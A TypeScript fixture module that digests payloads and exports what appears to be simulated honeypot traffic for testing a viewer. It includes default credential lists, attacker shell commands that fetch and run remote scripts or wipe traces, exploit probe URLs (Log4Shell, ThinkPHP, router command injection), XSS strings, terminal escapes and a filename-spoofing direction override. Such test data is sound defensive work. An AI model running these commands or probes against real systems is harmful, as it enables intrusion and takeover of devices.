/** Payloads with their digest; those that come again and again are digested once. */
import { hash } from "node:crypto"
import { bytesFromText, emptyBytes } from "@propolis/core"

export interface Payload {
  readonly data: Uint8Array
  readonly sha256: string
}

export const noPayload: Payload = { data: emptyBytes, sha256: "" }

export function payload(content: string | Uint8Array): Payload {
  const data = typeof content === "string" ? bytesFromText(content) : content
  return { data, sha256: hash("sha256", data, "hex") }
}

const known = new Map<string, Payload>()

/** For texts of which there are few thousand. */
export function commonPayload(text: string): Payload {
  let found = known.get(text)
  if (found === undefined) {
    found = payload(text)
    known.set(text, found)
  }
  return found
}

export const usernames =
  "root admin user test ubuntu oracle postgres guest support pi ftp mysql nagios git deploy www-data hadoop jenkins administrator sa ubnt default supervisor tech cisco".split(
    " ",
  )
export const passwords =
  "123456 admin password root 12345 1234 123456789 12345678 qwerty 111111 1qaz2wsx abc123 letmein P@ssw0rd changeme toor raspberry ubnt vizxv xc3511 888888 default support 7ujMko0admin anko juantech 54321 00000000 realtek hi3518 jvbzd zlxx. klv1234 smcadmin Zte521 guest test oracle postgres".split(
    " ",
  )
export const commands = [
  "uname -a",
  "cat /proc/cpuinfo | grep name | wc -l",
  "enable\nsystem\nshell\nsh",
  "/bin/busybox MIRAI",
  "cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.66/bins.sh; chmod 777 bins.sh; sh bins.sh",
  "cat /etc/passwd",
  "ps aux | grep -i miner",
  "free -m",
  "rm -rf /tmp/*; history -c",
  "echo -e '\\x6b\\x61\\x6d\\x69' > /dev/.nippon; cat /dev/.nippon",
  "curl -fsSL http://198.51.100.23/x86 | sh",
  "ls -lh $(which ls)",
]
export const urls = [
  "/",
  "/robots.txt",
  "/.env",
  "/wp-login.php",
  "/.git/config",
  "/boaform/admin/formLogin?username=admin&psd=admin",
  "/actuator/health",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget http://203.0.113.66/t -O-|sh`)",
  "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.23/jaws;sh+/tmp/jaws",
  "/HNAP1",
  "/manager/html",
  "/owa/auth/logon.aspx",
  "/$%7Bjndi:ldap://203.0.113.9:1389/a%7D",
  "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
  "/search?q=<script>alert(document.domain)</script>",
]
export const userAgents = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
  "Mozilla/5.0 zgrab/0.x",
  "curl/8.5.0",
  "python-requests/2.32.3",
  "Go-http-client/1.1",
  "masscan/1.3",
  "Expanse, a Palo Alto Networks company, searches across the global IPv4 space",
  "<script>alert('ua')</script>",
  "\u001b[31mred\u001b[0m agent",
  "\u202egpj.exe\u202c viewer",
]
/** What breaks a careless viewer: markup, terminal sequences, marks of direction, NUL. */
export const hostilePayloads: readonly Payload[] = [
  "<script>alert(1)</script><img src=x onerror=alert(2)>\r\n",
  "\u001b[2J\u001b[1;1H\u001b]0;owned\u0007\u001b[31mroot#\u001b[0m \r\n",
  "invoice\u202efdp.exe\u2066\u200f\r\n",
  "GET /\u0000%00 HTTP/1.0\u0000\r\n\r\n",
].map((text) => payload(text))
